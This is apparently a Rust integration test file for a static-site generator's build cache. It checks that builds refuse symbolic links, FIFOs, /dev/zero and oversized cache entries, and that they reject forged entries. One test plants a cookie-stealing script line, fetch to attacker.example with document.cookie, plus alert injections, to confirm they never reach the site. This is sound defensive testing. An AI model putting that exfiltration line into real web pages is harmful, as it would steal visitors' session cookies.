//! Hostile content, round two (issue 24), the build cache and what a build writes beside
//! its output: findings 1 (nothing is written through a symbolic link), 4 (only regular
//! files of a bounded size are read from the cache) and 7 (a forged entry never reaches
//! the site). Every build here keeps the cache's key in a folder of the test's own
//! (`XDG_CACHE_HOME`).
#![cfg(unix)]

mod common;
use common::*;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// A site with a small catalogue (six episodes: seven parts of the search index in the
/// cache) and a key folder of its own.
struct Cached {
    site: Site,
    keys: tempfile::TempDir,
}

impl Cached {
    fn new() -> Cached {
        Cached { site: long_site(6), keys: tempfile::tempdir().unwrap() }
    }
    fn cache(&self) -> PathBuf {
        self.site.root().join(".public.shownotes-cache")
    }
    /// `shownotes build`, under a memory limit (a build that reads `/dev/zero` fails
    /// instead of taking the machine's memory) and a time limit (one that opens a FIFO
    /// is killed): (exit code, stderr); -1 when it was killed.
    fn build_with(&self, cache_home: &Path) -> (i32, String) {
        let mut child = Command::new("sh")
            .arg("-c")
            .arg("ulimit -v 8000000 && exec \"$0\" build --root \"$1\"")
            .arg(env!("CARGO_BIN_EXE_shownotes"))
            .arg(self.site.root())
            .env("XDG_CACHE_HOME", cache_home)
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let stderr = child.stderr.take().unwrap();
        let reader = std::thread::spawn(move || std::io::read_to_string(stderr).unwrap_or_default());
        let started = Instant::now();
        let code = loop {
            if let Some(status) = child.try_wait().unwrap() {
                break status.code().unwrap_or(-1);
            }
            if started.elapsed() > Duration::from_secs(120) {
                child.kill().unwrap();
                child.wait().unwrap();
                break -1;
            }
            std::thread::sleep(Duration::from_millis(50));
        };
        (code, reader.join().unwrap())
    }
    fn build(&self) -> (i32, String) {
        self.build_with(self.keys.path())
    }
    fn build_ok(&self) -> String {
        let (code, stderr) = self.build();
        assert_eq!(code, 0, "the build failed or hung: {stderr}");
        stderr
    }
    /// The cache's entries (`search-<32 hex>`), by name.
    fn entries(&self) -> Vec<PathBuf> {
        let mut v: Vec<PathBuf> = std::fs::read_dir(self.cache())
            .unwrap()
            .map(|e| e.unwrap().path())
            .filter(|p| p.file_name().unwrap().to_string_lossy().starts_with("search-"))
            .collect();
        v.sort();
        v
    }
    /// The entries that hold Pagefind's search script (one).
    fn script_entries(&self) -> Vec<PathBuf> {
        let holds_script =
            |p: &PathBuf| parse_entry(&std::fs::read(p).unwrap()).1.iter().any(|(f, _)| f == "pagefind/pagefind.js");
        self.entries().into_iter().filter(holds_script).collect()
    }
}

/// "(F of its S parts from the cache...)" of a build's progress lines.
fn shards_from_cache(stderr: &str) -> (usize, usize) {
    let line = stderr.lines().find(|l| l.contains("parts from the cache")).unwrap_or_else(|| panic!("{stderr}"));
    let inner = line[..line.find("parts from").unwrap()].rsplit_once('(').unwrap().1;
    let words: Vec<&str> = inner.split_whitespace().collect();
    (words[0].parse().unwrap(), words[3].parse().unwrap())
}

/// The peak memory (resident, MB) of the largest child this test process has waited
/// for: every build here is small, so a build that read a huge entry stands out.
fn largest_child_peak_mb() -> i64 {
    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
    assert_eq!(unsafe { libc::getrusage(libc::RUSAGE_CHILDREN, &mut usage) }, 0);
    let kb = if cfg!(target_os = "macos") { usage.ru_maxrss / 1024 } else { usage.ru_maxrss };
    kb as i64 / 1024
}

fn troubleshooting() -> String {
    std::fs::read_to_string(repo().join("docs/src/troubleshooting.md")).unwrap()
}

// 1. Nothing the build writes follows a symbolic link it did not make.

#[test]
fn the_cache_never_writes_through_a_symbolic_link() {
    let c = Cached::new();
    c.build_ok();
    let reference = tree(&c.site.out(""));
    assert_eq!(c.entries().len(), 7, "an entry per episode and the script's");
    let [entry] = &c.script_entries()[..] else { panic!("one entry: {:?}", c.entries()) };

    let outside = tempfile::tempdir().unwrap();
    let precious = outside.path().join("precious.txt");
    let entry_target = outside.path().join("entry.bin");
    std::fs::write(&precious, "precious\n").unwrap();
    std::fs::write(&entry_target, "not an entry\n").unwrap();
    let cache = c.cache();
    std::fs::remove_file(cache.join(".gitignore")).unwrap();
    symlink(&precious, cache.join(".gitignore")).unwrap();
    std::fs::remove_file(cache.join("CACHEDIR.TAG")).unwrap();
    symlink(outside.path().join("tag-was-created"), cache.join("CACHEDIR.TAG")).unwrap();
    std::fs::remove_file(entry).unwrap();
    symlink(&entry_target, entry).unwrap();

    let stderr = c.build_ok();
    assert_eq!(std::fs::read_to_string(&precious).unwrap(), "precious\n", "written through .gitignore");
    assert!(!outside.path().join("tag-was-created").exists(), "created through a dangling CACHEDIR.TAG");
    assert_eq!(std::fs::read_to_string(&entry_target).unwrap(), "not an entry\n");
    assert!(tree(&c.site.out("")) == reference, "the site is built as before");
    // The links are gone (not their targets), the cache's own files are in their place.
    for name in [".gitignore", "CACHEDIR.TAG"] {
        let m = std::fs::symlink_metadata(cache.join(name)).unwrap();
        assert!(m.file_type().is_file(), "{name} is the cache's own file again");
    }
    assert!(std::fs::symlink_metadata(entry).unwrap().file_type().is_file());
    for name in [".gitignore", "CACHEDIR.TAG", entry.file_name().unwrap().to_str().unwrap()] {
        let line = stderr
            .lines()
            .find(|l| l.starts_with("warning: ") && l.contains(&format!("{name}: a symbolic link in the build cache")))
            .unwrap_or_else(|| panic!("no warning about {name}:\n{stderr}"));
        assert!(line.ends_with(')'), "the warning ends with what to do: {line}");
    }
    assert!(troubleshooting().contains("### a symbolic link in the build cache"));
    // (Nothing changed: the parts are the script and the whole index kept.)
    assert_eq!(shards_from_cache(&c.build_ok()), (2, 2), "and the cache works again");
}

#[test]
fn a_lock_file_that_is_a_symbolic_link_is_refused_not_written_through() {
    let c = Cached::new();
    c.build_ok();
    let reference = tree(&c.site.out(""));
    let outside = tempfile::tempdir().unwrap();
    let lock = c.site.root().join(".public.shownotes-lock");
    std::fs::remove_file(&lock).unwrap();
    symlink(outside.path().join("lock-was-created"), &lock).unwrap();

    let (code, stderr) = c.build();
    assert_eq!(code, 1, "{stderr}");
    assert!(!outside.path().join("lock-was-created").exists(), "created through a dangling lock file");
    let phrase = "is a symbolic link, which a build never writes through; delete the link";
    assert!(stderr.contains(&format!("{} {phrase}", lock.display())), "{stderr}");
    assert!(troubleshooting().contains(phrase));
    assert!(tree(&c.site.out("")) == reference, "the site is left as it was");

    // A link to a file that exists: never opened for writing either.
    std::fs::write(outside.path().join("lock"), "").unwrap();
    std::fs::remove_file(&lock).unwrap();
    symlink(outside.path().join("lock"), &lock).unwrap();
    assert_eq!(c.build().0, 1);
    std::fs::remove_file(&lock).unwrap();
    c.build_ok();
    assert!(std::fs::symlink_metadata(&lock).unwrap().file_type().is_file());
}

// 4. Only regular files of a bounded size are read from the cache.

#[test]
fn a_cache_entry_that_is_a_fifo_or_a_link_to_dev_zero_is_not_read() {
    let c = Cached::new();
    c.build_ok();
    let reference = tree(&c.site.out(""));
    let [entry] = &c.script_entries()[..] else { panic!("one entry: {:?}", c.entries()) };

    // A FIFO: opening it to read would wait for a writer forever.
    std::fs::remove_file(entry).unwrap();
    let made = Command::new("mkfifo").arg(entry).status().unwrap();
    assert!(made.success());
    let (code, stderr) = c.build();
    assert_eq!(code, 0, "the build hung on a FIFO (killed after two minutes) or failed: {stderr}");
    assert!(tree(&c.site.out("")) == reference);
    assert!(stderr.contains(": not a regular file in the build cache; removed unread"), "{stderr}");
    assert!(std::fs::symlink_metadata(entry).unwrap().file_type().is_file(), "replaced by a real entry");

    // A link to /dev/zero: read, it never ends.
    std::fs::remove_file(entry).unwrap();
    symlink("/dev/zero", entry).unwrap();
    let (code, stderr) = c.build();
    assert_eq!(code, 0, "the build read /dev/zero (out of memory) or hung: {stderr}");
    assert!(largest_child_peak_mb() < 1024, "a build read /dev/zero: {} MB", largest_child_peak_mb());
    assert!(tree(&c.site.out("")) == reference);
    assert!(stderr.contains(": a symbolic link in the build cache"), "{stderr}");

    // A regular file far bigger than any index of this catalogue: not read either.
    let big = std::fs::File::create(entry).unwrap();
    big.set_len(2 << 30).unwrap(); // sparse: 2 GiB that take no disk
    drop(big);
    let (code, stderr) = c.build();
    assert_eq!(code, 0, "{stderr}");
    assert!(largest_child_peak_mb() < 1024, "a build read a 2 GiB entry: {} MB", largest_child_peak_mb());
    assert!(tree(&c.site.out("")) == reference);
    assert!(stderr.contains("MB in the build cache; removed unread"), "{stderr}");
    let page = troubleshooting();
    for h in ["not a regular file in the build cache", "a file over N MB in the build cache"] {
        assert!(page.contains(h), "troubleshooting.md explains `{h}`");
    }
    assert_eq!(shards_from_cache(&c.build_ok()), (2, 2), "the script's entry and the kept index");
}

// 7. A cache entry is authenticated: one forged with a recomputed checksum is not used.

/// An entry's parts: everything before its files (the format line, the binary's
/// identity and the entry's name), its files, and the 32 bytes of its checksum.
fn parse_entry(bytes: &[u8]) -> (Vec<u8>, Vec<(String, Vec<u8>)>) {
    let body = &bytes[..bytes.len() - 32];
    let magic = body.iter().position(|&b| b == b'\n').unwrap() + 1;
    let int = |at: usize| u64::from_le_bytes(body[at..at + 8].try_into().unwrap()) as usize;
    let mut at = magic + 8 + int(magic);
    at += 8 + int(at); // the entry's own name
    let head = body[..at].to_vec();
    let n = int(at);
    at += 8;
    let mut files = Vec::new();
    for _ in 0..n {
        let len = int(at);
        let path = String::from_utf8(body[at + 8..at + 8 + len].to_vec()).unwrap();
        at += 8 + len;
        let len = int(at);
        files.push((path, body[at + 8..at + 8 + len].to_vec()));
        at += 8 + len;
    }
    assert_eq!(at, body.len());
    (head, files)
}

/// The entry again, its checksum recomputed as anyone can (blake3 of the rest).
fn forge(head: &[u8], files: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut out = head.to_vec();
    out.extend((files.len() as u64).to_le_bytes());
    for (path, content) in files {
        for b in [path.as_bytes(), content] {
            out.extend((b.len() as u64).to_le_bytes());
            out.extend(b);
        }
    }
    let sum = blake3::hash(&out);
    out.extend(sum.as_bytes());
    out
}

#[test]
fn a_forged_cache_entry_never_reaches_the_site() {
    let c = Cached::new();
    c.build_ok();
    let reference = tree(&c.site.out(""));
    assert!(reference.contains_key("pagefind/pagefind.js"));
    let [entry] = &c.script_entries()[..] else { panic!("one entry: {:?}", c.entries()) };
    let (head, mut files) = parse_entry(&std::fs::read(entry).unwrap());
    let js = files.iter_mut().find(|(p, _)| p == "pagefind/pagefind.js").expect("the entry holds pagefind.js");
    js.1 = b"fetch('https://attacker.example/?' + document.cookie);".to_vec();
    files.push(("pagefind/extra.js".into(), b"alert(1)".to_vec()));
    files.push(("pagefind/shard-9/pagefind.js".into(), b"alert(2)".to_vec()));
    std::fs::write(entry, forge(&head, &files)).unwrap();

    let stderr = c.build_ok();
    // Nothing changed: the parts looked for are the script and the kept index.
    assert_eq!(shards_from_cache(&stderr), (1, 2), "the forged entry is not used");
    assert!(tree(&c.site.out("")) == reference, "the site is exactly a clean build's");
    assert_eq!(shards_from_cache(&c.build_ok()), (2, 2), "the entry made again is used");

    // The key that authenticates entries is the user's, outside the site, private.
    let key = c.keys.path().join("shownotes/cache-key");
    let meta = std::fs::symlink_metadata(&key).unwrap();
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(meta.permissions().mode() & 0o777, 0o600);
    assert_eq!(meta.len(), 32);

    // Another user's key (or none): the entry is not theirs to use.
    let other = tempfile::tempdir().unwrap();
    let (code, stderr) = c.build_with(other.path());
    assert_eq!((code, shards_from_cache(&stderr)), (0, (0, 7)));
    // No key can be made (a cache folder that cannot be created): no cache at all.
    let file = other.path().join("a-file");
    std::fs::write(&file, "").unwrap();
    let before = std::fs::read_dir(c.cache()).unwrap().count();
    let (code, stderr) = c.build_with(&file);
    assert_eq!((code, shards_from_cache(&stderr)), (0, (0, 0)), "{stderr}");
    assert_eq!(std::fs::read_dir(c.cache()).unwrap().count(), before, "nothing written to the cache");
    assert!(tree(&c.site.out("")) == reference);
}

// 8. An entry is signed with its own name: a sound entry (this user's, this binary's)
// copied over the other entries of its kind is taken for none of them.

#[test]
fn a_sound_entry_under_another_entrys_name_is_never_taken() {
    let site = rerun_site();
    site.build_ok(&[]);
    let dir = site.root().join(".public.shownotes-cache");
    let mut names: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| !n.starts_with('.') && n.contains('-') && n != "CACHEDIR.TAG")
        .collect();
    names.sort();
    let mut kinds: Vec<&str> = names.iter().map(|n| n.split_once('-').unwrap().0).collect();
    kinds.dedup();
    let mut swapped = Vec::new();
    for kind in kinds {
        let of_kind: Vec<&String> = names.iter().filter(|n| n.split_once('-').unwrap().0 == kind).collect();
        if of_kind.len() < 2 {
            continue;
        }
        let bytes = std::fs::read(dir.join(of_kind[0])).unwrap();
        for n in &of_kind[1..] {
            std::fs::write(dir.join(n), &bytes).unwrap();
        }
        swapped.push(kind);
    }
    for kind in ["episode", "pages", "search"] {
        assert!(swapped.contains(&kind), "no two {kind}- entries to swap: {names:?}");
    }
    site.build_ok(&[]);
    assert_same_as_clean(&site, "after sound entries copied over others of their kind");
}
